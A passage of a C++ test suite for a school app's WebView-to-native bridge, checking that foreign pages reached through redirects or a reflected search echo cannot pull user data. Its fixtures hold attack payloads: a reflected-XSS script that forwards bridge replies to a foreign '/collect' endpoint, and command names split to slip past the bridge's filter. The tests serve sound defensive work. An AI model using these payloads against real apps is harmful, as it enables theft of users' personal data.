    auto composer = platform::MessageComposeViewController::openComposer();
    ASSERT_TRUE(composer);
    EXPECT_EQ(composer->body(), "到了");
    EXPECT_EQ(composer->recipients(), std::vector<std::string>{"13900004567"});
    ASSERT_TRUE(platform::MessageComposeViewController::finishOpenComposer(
        platform::MessageComposeResult::Sent));
    settle();
    EXPECT_TRUE(loggedLine("Message sent"));
    EXPECT_FALSE(navigation->presentedViewController());
    EXPECT_FALSE(page->presentedViewController());
}

// --- Who may call the bridge -------------------------------------------------------------

TEST_F(BridgeTest, AForeignPageReachedThroughARedirectGetsNoneOfTheUsersData) {
    signIn({{"userId", "20050031"}, {"userName", "王建国"}, {"mobile", "13900004567"}});
    addContact("林", "晓岚", {"13900004567"});
    platform::AddressBook::setAuthorizationStatus(platform::ContactsAuthorization::Authorized);
    const std::string steal = foreign.baseUrl() + "/steal.html";
    foreign.setReply("GET", "/steal.html",
                     htmlReply(foreignPage("location.href = 'lanxi-bridge://getUserInfo';")));
    server.setReply("GET", "/CM/login.html", redirectTo(steal));

    page = open("/CM/login.html");
    // The page that asks is the foreign one, whatever address the container opened.
    EXPECT_EQ(page->webView()->pageURL(), steal);
    EXPECT_EQ(page->webView()->pageTitle(), "外站");
    EXPECT_TRUE(loggedLine("urlString:lanxi-bridge://getUserInfo"));
    EXPECT_TRUE(loggedLine("bridge: getUserInfo refused: " + steal));
    EXPECT_TRUE(replies().empty());
    EXPECT_EQ(shown("reply"), "none");
    EXPECT_FALSE(page->isUserInfoRequestPending());

    // Nor the contacts, the device, the page store or the address book.
    for (const std::string& address :
         {std::string("lanxi-bridge://readContact"), std::string("lanxi-bridge://getDeviceId"),
          std::string("lanxi-bridge://getOrgInfo"), command("setStorage", R"({"a":1})"),
          command("getStorage", R"({"key":"a"})"),
          command("addContact", R"({"userName":"外","mobileNo":"13912345678"})")})
        EXPECT_FALSE(navigate(address)) << address;
    settle();
    EXPECT_TRUE(replies().empty());
    EXPECT_EQ(shown("reply"), "none");
    EXPECT_EQ(page->pageStore(), Json::object());
    EXPECT_EQ(platform::ContactStore().loadAll().size(), 1u);
    EXPECT_EQ(driver.outline().find("添加"), std::string::npos) << driver.outline();
    EXPECT_TRUE(loggedLine("bridge: readContact refused: " + steal));
    EXPECT_TRUE(loggedLine("bridge: addContact refused: " + steal));
    EXPECT_EQ(page->webView()->pageURL(), steal);
}

TEST_F(BridgeTest, ASchoolPageReachedThroughARedirectIsStillAnswered) {
    const Json document = {{"userId", "20050031"}};
    signIn(document);
    server.setReply("GET", "/CM/login.html", redirectTo(server.baseUrl() + kDemoPath));
    page = open("/CM/login.html");
    EXPECT_EQ(page->webView()->pageURL(), server.baseUrl() + kDemoPath);
    EXPECT_EQ(tapDemo("用户信息"), document.dump());
    EXPECT_EQ(replies(), std::vector<std::string>{"callback(" + document.dump() + ")"});
}

TEST_F(BridgeTest, ARedirectToACommandIsJudgedByTheAddressThatRedirected) {
    page = open();
    foreign.setReply("GET", "/go", redirectTo("lanxi-bridge://navigationBarHidden"));
    server.setReply("GET", "/go", redirectTo("lanxi-bridge://navigationBarHidden"));

    follow(foreign.baseUrl() + "/go");
    EXPECT_FALSE(navigation->isNavigationBarHidden());
    EXPECT_TRUE(loggedLine("bridge: navigationBarHidden refused: " + foreign.baseUrl() + "/go"));

    follow(server.baseUrl() + "/go");
    EXPECT_TRUE(navigation->isNavigationBarHidden());
    // The command ended that load; the page stays, with no fail view.
    EXPECT_EQ(page->webView()->pageURL(), server.baseUrl() + kDemoPath);
    EXPECT_FALSE(page->isFailViewShowing());
}

// A school address that redirects to a command acts for whoever led there: a foreign page
// that sends the user (by its script or by a link) to such an address gets nothing done.
TEST_F(BridgeTest, ASchoolRedirectToACommandDoesNothingWhenAForeignPageLedThere) {
    platform::AddressBook::setAuthorizationStatus(platform::ContactsAuthorization::Authorized);
    const std::map<std::string, std::string> hops = {
        {"/hop/storage", "x://set%53torage=%7B%22k%22%3A%22pwned%22%7D"},
        {"/hop/contact",
         "x://"
         "addContact=%7B%22userName%22%3A%22%E5%A4%96%22%2C%22mobileNo%22%3A%2213912345678%22%7D"},
        {"/hop/record", "x://startRecord"},
        {"/hop/share",
         "x://onMenuShare=%7B%22title%22%3A%22%E5%A4%96%E7%AB%99%22%2C%22targetUrl%22%3A%22" +
             foreign.baseUrl() + "%22%7D"},
    };
    for (const auto& [path, command] : hops) server.setReply("GET", path, redirectTo(command));
    const std::string lure = foreign.baseUrl() + "/lure.html";
    foreign.setReply(
        "GET", "/lure.html",
        htmlReply(foreignPage("location.href = '" + server.baseUrl() + "/hop/storage';")));
    foreign.setReply("GET", "/bounce", redirectTo(server.baseUrl() + "/hop/storage"));

    page = open();
    EXPECT_FALSE(navigate(command("setStorage", R"({"k":"school"})", "x://")));
    ASSERT_EQ(page->pageStore(), Json({{"k", "school"}}));

    // The foreign page's script sends the user to the school's redirect.
    follow(lure);
    ASSERT_TRUE(driver.runUntil([&] { return loggedLine("setStorage refused: " + lure); }));
    settle();
    EXPECT_EQ(page->webView()->pageURL(), lure);
    // And its links to the others.
    for (const char* path : {"/hop/contact", "/hop/record", "/hop/share"}) {
        navigate(server.baseUrl() + path);
        EXPECT_TRUE(driver.runUntil([&] {
            return !page->webView()->isLoading() && platform::HttpClient::shared().inFlight() == 0;
        }));
        settle();
    }
    EXPECT_TRUE(loggedLine("addContact refused: " + lure));
    EXPECT_TRUE(loggedLine("startRecord refused: " + lure));
    EXPECT_TRUE(loggedLine("onMenuShare refused: " + lure));
    EXPECT_EQ(page->webView()->pageURL(), lure);
    EXPECT_EQ(page->pageStore(), Json({{"k", "school"}}));
    EXPECT_TRUE(platform::ContactStore().loadAll().empty());
    EXPECT_EQ(driver.outline().find("添加"), std::string::npos) << driver.outline();
    EXPECT_FALSE(loggedLine("开始录音"));
    EXPECT_FALSE(loggedLine("dictdictdictdictdict"));
    EXPECT_FALSE(page->presentedViewController());
    EXPECT_FALSE(navigation->presentedViewController());
    EXPECT_TRUE(replies().empty());

    // Back on the school page, its store holds what the school put there.
    goBack();
    ASSERT_EQ(page->webView()->pageURL(), server.baseUrl() + kDemoPath);
    EXPECT_FALSE(navigate("x://getStorage=%7B%22key%22%3A%22k%22%7D"));
    EXPECT_EQ(replies(), std::vector<std::string>{R"(callback( {"message":"school"} ))"});

    // A school page's link through a foreign redirect to the school's is refused too: every
    // address on the way counts.
    clearLog();
    follow(foreign.baseUrl() + "/bounce");
    EXPECT_TRUE(loggedLine("setStorage refused: " + foreign.baseUrl() + "/bounce"));
    EXPECT_EQ(page->pageStore(), Json({{"k", "school"}}));

    // While the school's own page following the same redirect is served.
    follow(server.baseUrl() + "/hop/storage");
    EXPECT_EQ(page->pageStore(), Json({{"k", "pwned"}}));
}

// What a school address answers is shown as what it says it is: a JSON error that echoes the
// address, or a file served as a picture, is never run as a page on the school's address. And
// a real school page that a foreign page opened does nothing for it.
TEST_F(BridgeTest, ASchoolAddressAForeignPageSendsTheUserToStealsNothing) {
    signIn({{"userId", "20050031"}, {"userName", "王建国"}, {"mobile", "13900004567"}});
    // Split so that the address itself names no command word (the bridge refuses those).
    const std::string steal =
        "<script>window['loc'+'ation'].href='lanxi-bridge://get'+'UserInfo';</script>";
    fakes::Reply picture;
    picture.contentType = "image/jpeg";
    picture.body = "<html><body>" + steal + "</body></html>";
    server.setReply("GET", "/upload/mportal/7/a.jpg", picture);
    server.setReply("GET", "/school-page.html",
                    htmlReply(foreignPage("location.href = 'lanxi-bridge://getUserInfo';")));
    fakes::Reply bytes;
    bytes.contentType = "application/octet-stream";
    bytes.body = "<script>location.href='lanxi-bridge://getUserInfo';</script>";
    server.setReply("GET", "/data.bin", bytes);
    const std::map<std::string, std::string> lures = {
        {"/echo.html", server.baseUrl() + "/x" + steal},
        {"/picture.html", server.baseUrl() + "/upload/mportal/7/a.jpg"},
        {"/opened.html", server.baseUrl() + "/school-page.html"},
    };
    for (const auto& [path, target] : lures) {
        // "</" would end the foreign page's own script early.
        std::string quoted = Json(target).dump();
        for (auto at = quoted.find("</"); at != std::string::npos; at = quoted.find("</", at))
            quoted.replace(at, 2, "<\\/");
        foreign.setReply("GET", path, htmlReply(foreignPage("location.href = " + quoted + ";")));
    }

    page = open();
    for (const auto& [path, target] : lures) {
        follow(foreign.baseUrl() + path);
        ASSERT_TRUE(driver.runUntil([&] {
            return page->webView()->pageURL().rfind(server.baseUrl(), 0) == 0 &&
                   !page->webView()->isLoading();
        })) << path
            << " " << page->webView()->pageURL() << " "
            << (page->webView()->lastError() ? page->webView()->lastError()->description
                                             : std::string());
        settle();
        EXPECT_TRUE(replies().empty()) << path;
        EXPECT_FALSE(page->isUserInfoRequestPending()) << path;
    }
    // The echoed address stands as text, script and all.
    follow(foreign.baseUrl() + "/echo.html");
    ASSERT_TRUE(driver.runUntil([&] { return !page->webView()->isLoading(); }));
    settle();
    page->webView()->layoutIfNeeded();
    std::string text;
    for (const auto& item : page->webView()->pageItems()) text += item.text;
    EXPECT_NE(text.find("not found"), std::string::npos) << text;
    EXPECT_TRUE(text.find("<script>") != std::string::npos ||
                text.find("%3Cscript%3E") != std::string::npos)
        << text;
    EXPECT_TRUE(loggedLine("bridge: getUserInfo refused: " + foreign.baseUrl()));
    EXPECT_FALSE(loggedLine("urlString:lanxi-bridge://getUserInfo\n"));
    // Nothing reached the foreign site but its own pages.
    for (const auto& request : foreign.requests())
        EXPECT_TRUE(lures.count(request.path)) << request.path;

    // Bytes no page shows fail the load, and the page before stays.
    const std::string before = page->webView()->pageURL();
    EXPECT_TRUE(navigate(server.baseUrl() + "/data.bin"));
    ASSERT_TRUE(driver.runUntil([&] { return !page->webView()->isLoading(); }));
    settle();
    ASSERT_TRUE(page->webView()->lastError());
    EXPECT_EQ(page->webView()->lastError()->code, platform::WebError::kFrameLoadInterrupted);
    EXPECT_EQ(page->webView()->pageURL(), before);

    // The same school page opened by the client itself is answered.
    page = open("/school-page.html");
    ASSERT_TRUE(driver.runUntil([&] { return !replies().empty(); }));
    EXPECT_NE(replies().front().find("20050031"), std::string::npos);
}

TEST_F(BridgeTest, ARedirectLoopEndsInTheFailView) {
    server.setReply("GET", "/CM/login.html", redirectTo(server.baseUrl() + "/CM/login.html"));
    page = open("/CM/login.html");
    EXPECT_TRUE(page->isFailViewShowing());
    EXPECT_FALSE(page->webView()->hasPage());
    EXPECT_FALSE(page->loadingOverlay());
}

TEST_F(BridgeTest, AReplyThatArrivesAfterThePageLeftTheSchoolIsWithheld) {
    page = open();
    tapDemo("用户信息");
    ASSERT_TRUE(signInPage());
    ASSERT_TRUE(page->isUserInfoRequestPending());

    // While the sign-in page shows, the page behind it goes elsewhere.
    foreign.setReply("GET", "/wait.html", htmlReply(foreignPage()));
    follow(foreign.baseUrl() + "/wait.html");
    clearLog();

    signIn({{"userId", "20050031"}});
    platform::NotificationCenter::defaultCenter().post(SignInNotification::LoginSuccess);
    settle();
    EXPECT_TRUE(replies().empty());
    EXPECT_EQ(shown("reply"), "none");
    EXPECT_TRUE(loggedLine("bridge: reply withheld: " + foreign.baseUrl() + "/wait.html"));
    EXPECT_FALSE(loggedLine("回调:"));
}

TEST_F(BridgeTest, LowercaseEscapesDecodeAsUppercaseOnes) {
    page = open();
    // Escaped once: the dispatcher's decoding.
    EXPECT_FALSE(navigate("lanxi-bridge://setStorage=%7b%22a%22%3a%22%e4%b8%80%22%7d"));
    EXPECT_EQ(page->pageStore(), Json({{"a", "一"}}));
    // Escaped twice: the argument's own decoding as well.
    EXPECT_EQ(WebDetailViewController::DictFromStrCut(
                  "x://getStorage=%7b%22key%22%3a%22%e4%b8%80%22%7d", "getStorage"),
              Json({{"key", "一"}}));
    EXPECT_FALSE(navigate("lanxi-bridge://getStorage=%257b%2522key%2522%253a%2522a%2522%257d"));
    EXPECT_EQ(replies(), std::vector<std::string>{R"(callback( {"message":"一"} ))"});
}

// An address the client opens itself has nothing before it: it speaks for itself, so the
// school's may command and another host's may not.
TEST_F(BridgeTest, ACommandAddressTheClientOpensItselfIsJudgedByItsOwnHost) {
    const std::string stored = "/start?setStorage=%7B%22campus%22%3A%22lanxi%22%7D";
    page = openAddress(foreign.baseUrl() + stored);
    EXPECT_TRUE(loggedLine("bridge: setStorage refused: " + foreign.baseUrl() + "/start"));
    EXPECT_TRUE(page->pageStore().empty());

    page = openAddress(server.baseUrl() + stored);
    EXPECT_EQ(page->pageStore().value("campus", ""), "lanxi");
}

// --- What led to a page stays with it; an answer goes only to the page that asked --------

// The school's search page echoes its query into its HTML, so what a foreign site puts there
// runs as a school page: its `callback` sends whatever it hears to the foreign site's
// "/collect". The foreign site's "/bounce" redirects there. Its link comes before the echo: a
// script that navigates while the page loads ends the page's loading there, as in any
// browser, and what follows it is never shown.
class EchoLureTest : public BridgeTest {
protected:
    static constexpr const char* kAsksForTheUser =
        "window['loc' + 'ation'].href = 'lanxi-bridge://get' + 'UserInfo';";

    EchoLureTest() {
        server.setHandler("GET", "/search", [](const fakes::RecordedRequest& request) {
            return htmlReply(
                "<html><head><title>搜索</title></head><body><p><a "
                "href=\"/news/list.html\">校园新闻</a></p><p>搜索：" +
                request.queryValue("q").value_or("") + "</p></body></html>");
        });
    }
    // The search address whose echo defines the callback, then runs `then`. Its words are
    // split so that the address itself names no command (the bridge refuses those).
    std::string echoAddress(const std::string& then = "") const {
        const std::string markup =
            "<script>function callback(r) { window['loc' + 'ation'].href = '" + foreign.baseUrl() +
            "/collect?d=' + encodeURIComponent(JSON.stringify(r)); }" + then + "</script>";
        std::string query;
        for (unsigned char c : markup) {
            static constexpr char kHex[] = "0123456789ABCDEF";
            if (std::isalnum(c))
                query += char(c);
            else
                query += {'%', kHex[c >> 4], kHex[c & 15]};
        }
        return server.baseUrl() + "/search?q=" + query;
    }
    void lureThroughBounce(const std::string& then = "", int status = 302) {
        fakes::Reply bounce = redirectTo(echoAddress(then));
        bounce.status = status;
        foreign.setReply("GET", "/bounce", bounce);
    }
    // The user follows a foreign link that bounces to the echo.
    void followTheLure() {
        // Not waiting for every transfer to end: a held reply may be one of them.
        ASSERT_TRUE(navigate(foreign.baseUrl() + "/bounce"));
        ASSERT_TRUE(driver.runUntil([&] { return !page->webView()->isLoading(); }));
        settle();
        ASSERT_EQ(page->webView()->pageTitle(), "搜索")
            << page->webView()->pageURL() << " " << page->webView()->pageStatus() << "\n"
            << page->webView()->pageHTML();
        ASSERT_EQ(page->webView()->pageURL().rfind(server.baseUrl() + "/search?", 0), 0u);
    }
    // What the echo's callback sent to the foreign site.
    std::vector<std::string> collected() const {
        std::vector<std::string> sent;
        for (const auto& request : foreign.requestsTo("/collect"))
            sent.push_back(request.queryValue("d").value_or(""));
        return sent;
    }
    void waitForThePage() {
        EXPECT_TRUE(driver.runUntil(
            [&] {
                return !page->webView()->isBusy() && platform::HttpClient::shared().inFlight() == 0;
            },
            pagesettle::kBound.count()));
        settle();
    }
    // The user taps the echo's link, then back.
    void tapTheLinkAndBack() {
        ASSERT_TRUE(tapOnPage("校园新闻")) << driver.outline();
        waitForThePage();
        ASSERT_EQ(page->webView()->pageURL(), server.baseUrl() + "/news/list.html");
        goBack();
        ASSERT_EQ(page->webView()->pageTitle(), "搜索");
    }
    // The echo shown asks for the user once more. Brought back by a move through the history,
    // the page comes from the browser's back-forward cache as it was, and runs none of its
    // scripts anew; a reload runs them again.
    void theEchoAsksAgain() { EXPECT_FALSE(navigate("lanxi-bridge://getUserInfo")); }
    // Tap-and-back, then a reload: each showing of the echo is refused for what led to it.
    void expectRefusedAfterBackAndReload(const std::string& ledBy) {
        clearLog();
        tapTheLinkAndBack();
        theEchoAsksAgain();
        EXPECT_TRUE(loggedLine("bridge: getUserInfo refused: " + ledBy));
        clearLog();
        reload();
        EXPECT_TRUE(loggedLine("bridge: getUserInfo refused: " + ledBy));
    }
};

TEST_F(EchoLureTest, BackForwardAndReloadKeepTheForeignHopThatLedToAPage) {
    signIn({{"userId", "20050031"}, {"userName", "王建国"}});
    const std::string lure = foreign.baseUrl() + "/bounce";
    page = open();
    for (int status : {302, 303}) {
        SCOPED_TRACE(status);
        lureThroughBounce(kAsksForTheUser, status);
        clearLog();
        followTheLure();
        ASSERT_TRUE(loggedLine("bridge: getUserInfo refused: " + lure));

        expectRefusedAfterBackAndReload(lure);
        clearLog();
        goForward();
        goBack();
        theEchoAsksAgain();
        EXPECT_TRUE(loggedLine("bridge: getUserInfo refused: " + lure));
        EXPECT_FALSE(page->isUserInfoRequestPending());

        // Back on the school's own page for the next round.
        goBack();
        ASSERT_EQ(page->webView()->pageTitle(), "网页接口演示");
    }
    EXPECT_TRUE(replies().empty());
    EXPECT_TRUE(collected().empty());

    // The same echo opened by the client itself is the school's page, and would send the
    // user off: what the lure is after.
    page = openAddress(echoAddress(kAsksForTheUser));
    ASSERT_TRUE(driver.runUntil([&] { return !collected().empty(); }));
    EXPECT_NE(collected().front().find("20050031"), std::string::npos) << collected().front();
}

TEST_F(EchoLureTest, AnEntryAddressThatHopsThroughAForeignSiteStaysForeignOnBackAndReload) {
    signIn({{"userId", "20050031"}, {"userName", "王建国"}});
    const std::string hop = foreign.baseUrl() + "/hop";
    server.setReply("GET", "/CM/attendance.html", redirectTo(hop));
    foreign.setReply("GET", "/hop", redirectTo(echoAddress(kAsksForTheUser)));

    page = open("/CM/attendance.html");
    ASSERT_EQ(page->webView()->pageTitle(), "搜索");
    ASSERT_TRUE(loggedLine("bridge: getUserInfo refused: " + hop));
    expectRefusedAfterBackAndReload(hop);

    EXPECT_TRUE(replies().empty());
    EXPECT_TRUE(collected().empty());
    EXPECT_FALSE(page->isUserInfoRequestPending());
}

TEST_F(EchoLureTest, AFixThatComesAfterTheUserFollowedAForeignLinkReachesNoPage) {
    auto& device = platform::LocationDevice::shared();
    device.setAuthorizationStatus(platform::LocationAuthorizationStatus::AuthorizedWhenInUse);
    lureThroughBounce();
    page = open();
    ASSERT_TRUE(tapOnPage("当前位置"));
    settle();
    ASSERT_TRUE(replies().empty()) << "the phone knows nowhere yet";

    followTheLure();
    clearLog();
    device.injectLocation(fix(30.3001, 120.0801));
    settle();
    EXPECT_TRUE(replies().empty());
    EXPECT_TRUE(collected().empty());
    EXPECT_TRUE(loggedLine("bridge: reply withheld: " + server.baseUrl() + "/search?"));

    // Back on the page that asked, it is another showing of it, which did not ask either.
    goBack();
    device.injectLocation(fix(30.2500, 120.1700));
    settle();
    EXPECT_EQ(shown("reply"), "（尚无回复）");
    // Asked again, it hears where the phone is (the fix reaches the page on a later turn).
    ASSERT_TRUE(tapOnPage("当前位置"));
    settle();
    ASSERT_TRUE(platform::RunLoop::main().runUntil(
        [&] { return shown("reply").find("latitude") != std::string::npos; },
        std::chrono::seconds(10)))
        << shown("reply");
    EXPECT_EQ(Json::parse(shown("reply")).value("latitude", ""), "30.250000");
    EXPECT_TRUE(collected().empty());
}

TEST_F(EchoLureTest, UserInformationThatComesAfterTheUserFollowedAForeignLinkReachesNoPage) {
    constexpr const char* kUserInfoPath = "/manage/user/queryUserInfoForOldApp";
    lureThroughBounce();
    page = open();
    tapDemo("用户信息");
    ASSERT_TRUE(signInPage()) << driver.outline();
    // The user-information service answers only when the test lets it.
    server.holdReplies("GET", kUserInfoPath);
    ASSERT_TRUE(signInOnThePage());
    ASSERT_TRUE(driver.runUntil([&] { return !server.heldRequests(kUserInfoPath).empty(); }));

    // Meanwhile the page behind the sign-in follows a foreign link.
    followTheLure();
    clearLog();
    ASSERT_TRUE(server.releaseHeld(kUserInfoPath));
    ASSERT_TRUE(driver.runUntil([&] { return !page->isUserInfoRequestPending(); }));
    settle();
    EXPECT_TRUE(replies().empty());
    EXPECT_TRUE(collected().empty());
    EXPECT_TRUE(loggedLine("bridge: reply withheld: " + server.baseUrl() + "/search?"));
}

// The page is known by itself, not by its address: the same address shown again (reloaded,
// say) is another page, which did not ask.
TEST_F(BridgeTest, AnAnswerSkipsAnotherShowingOfTheAddressThatAsked) {
    constexpr const char* kUploadPath = "/vobels/services/fileUploadMportal";
    const auto folder = home.path() / "相册";
    std::filesystem::create_directories(folder);
    std::ofstream(folder / "photo.png", std::ios::binary)
        << platform::Image::fromARGB(4, 3, std::vector<std::uint32_t>(12, 0xFF336699u)).pngData();
    ASSERT_TRUE(platform::PhotoLibrary::shared().setFolder(folder));
    server.holdReplies("POST", kUploadPath);
    page = open();

    // The user's information, after a sign-in.
    tapDemo("用户信息");
    ASSERT_TRUE(signInPage());
    reload();
    clearLog();
    signIn({{"userId", "20050031"}});
    platform::NotificationCenter::defaultCenter().post(SignInNotification::LoginSuccess);
    settle();
    EXPECT_FALSE(page->isUserInfoRequestPending());
    EXPECT_EQ(shown("reply"), "（尚无回复）");
    EXPECT_TRUE(loggedLine("bridge: reply withheld: " + server.baseUrl() + kDemoPath +
                           " is not the page that asked"));
    navigation->dismissViewController(false);
    settle();

    // A chosen photo's upload.
    ASSERT_TRUE(choosePhotoUntilItsUploadIsHeld(kUploadPath));
    reload();
    ASSERT_TRUE(server.releaseHeld(kUploadPath));
    ASSERT_TRUE(driver.runUntil([] { return platform::dispatch::backgroundWorkInFlight() == 0; }));
    settle();
    EXPECT_EQ(shown("reply"), "（尚无回复）");
    EXPECT_TRUE(replies().empty());

    // Asked by the page shown, the answer comes.
    EXPECT_EQ(Json::parse(tapDemo("用户信息")).value("userId", ""), "20050031");
}

TEST_F(EchoLureTest, APhotoUploadThatEndsAfterTheUserFollowedAForeignLinkReachesNoPage) {
    constexpr const char* kUploadPath = "/vobels/services/fileUploadMportal";
    const auto folder = home.path() / "相册";
    std::filesystem::create_directories(folder);
    std::ofstream(folder / "photo.png", std::ios::binary)
        << platform::Image::fromARGB(4, 3, std::vector<std::uint32_t>(12, 0xFF336699u)).pngData();
    ASSERT_TRUE(platform::PhotoLibrary::shared().setFolder(folder));
    server.holdReplies("POST", kUploadPath);
    lureThroughBounce();
    page = open();

    ASSERT_TRUE(choosePhotoUntilItsUploadIsHeld(kUploadPath));

    followTheLure();
    clearLog();
    ASSERT_TRUE(server.releaseHeld(kUploadPath));
    ASSERT_TRUE(driver.runUntil([] { return platform::dispatch::backgroundWorkInFlight() == 0; }));
    settle();
    EXPECT_TRUE(replies().empty());
    EXPECT_TRUE(collected().empty());
    EXPECT_TRUE(loggedLine("bridge: reply withheld: " + server.baseUrl() + "/search?"));
}

// The school's own command address, opened by the client itself while a page that a foreign
// site led to is shown, is a command of the school's; its answer still never reaches that page.
TEST_F(EchoLureTest, AnAnswerToTheClientsOwnCommandSkipsAPageThatAForeignSiteLedTo) {
    const std::string lure = foreign.baseUrl() + "/bounce";
    lureThroughBounce();
    page = open();
    followTheLure();
    clearLog();
    platform::URLRequest command;
    command.url = server.baseUrl() + "/device?getDeviceId";
    page->webView()->loadRequest(command);
    waitForThePage();
    EXPECT_TRUE(loggedLine("getDeviceId"));
    EXPECT_TRUE(loggedLine("bridge: reply withheld: " + lure));
    EXPECT_TRUE(replies().empty());
    EXPECT_TRUE(collected().empty());
}

// The camera's photo, like the album's, answers the page that asked for it, not whichever page
// is shown when the shutter falls: here a school page that sends what it hears elsewhere.
TEST_F(EchoLureTest, ACameraPhotoAnswersOnlyThePageThatAskedForIt) {
    constexpr const char* kUploadPath = "/vobels/services/fileUploadMportal";
    ASSERT_TRUE(platform::ImagePickerController::setCamera(true));
    page = open();
    tapDemo("选择照片");
    ASSERT_TRUE(driver.pressAlertButton("拍照").ok) << driver.outline();
    settle();
    auto camera =
        std::dynamic_pointer_cast<platform::ImagePickerController>(page->presentedViewController());
    ASSERT_TRUE(camera) << driver.outline();

    // Behind the camera, the page moves on to the school's echo by a link of its own.
    follow(echoAddress());
    ASSERT_EQ(page->webView()->pageTitle(), "搜索");
    clearLog();
    ASSERT_TRUE(camera->takePicture());
    ASSERT_TRUE(driver.runUntil([&] {
        return server.requestsTo(kUploadPath).size() == 1 &&
               platform::dispatch::backgroundWorkInFlight() == 0;
    }));
    waitForThePage();
    EXPECT_TRUE(loggedLine("is not the page that asked"));
    EXPECT_TRUE(replies().empty());
    EXPECT_TRUE(collected().empty());
    platform::ImagePickerController::resetDevice();
}

}  // namespace
